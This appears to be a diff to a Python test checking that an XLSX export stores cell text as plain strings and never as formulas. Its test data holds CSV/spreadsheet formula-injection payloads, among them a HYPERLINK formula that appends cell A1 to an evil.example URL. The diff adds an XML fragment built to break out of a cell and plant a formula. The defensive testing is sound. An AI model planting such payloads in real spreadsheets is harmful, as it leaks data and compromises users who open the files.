@@ -20,10 +20,12 @@ COLUMNS = [
     Column("rate", "Rate", "费率", Kind.DECIMAL),
 ]
 EVIL = ['=HYPERLINK("https://evil.example/?"&A1)', "+1+2", "-3+4", "@SUM(A1)", "\tx", "\rx"]
+# xlsxwriter's own constant-memory flush writes this unescaped (a "rich string"): it would close the cell and add a formula.
+RICH = '<r><t>x</t></r></is></c><c r="Z9"><f>HYPERLINK("https://evil.example")</f></c><c r="Z10" t="inlineStr"><is><r><t>y</t></r>'
 
 
 async def rows() -> AsyncIterator[dict[str, object]]:
-    for i, name in enumerate([*EVIL, "上海客户"]):
+    for i, name in enumerate([*EVIL, RICH, "上海客户"]):
         yield {"name": name, "amount": Decimal("-1200.5") if i == 2 else Decimal("1800"), "day": date(2026, 3, 1),
                "at": datetime(2026, 3, 1, 16, 30, tzinfo=UTC), "share": Decimal("85.5"), "count": i, "rate": Decimal("3.000")}
 
@@ -36,7 +38,7 @@ async def test_xlsx_cells_are_typed_text_is_never_a_formula_and_the_header_is_fr
     assert book.sheet_names == ["客户"]
     header, *body = book.get_sheet_by_index(0).to_python()
     assert header == ["名称", "金额", "日期", "时间", "占比 %", "数量", "费率"]
-    assert [r[0] for r in body] == [*EVIL, "上海客户"]  # text as given, a string cell
+    assert [r[0] for r in body] == [*EVIL, RICH, "上海客户"]  # text as given, a string cell
     first = body[0]
     assert first[1:] == [1800.0, date(2026, 3, 1), datetime(2026, 3, 2, 0, 30), 0.855, 0.0, 3.0]  # in Shanghai time
     assert body[2][1] == -1200.5
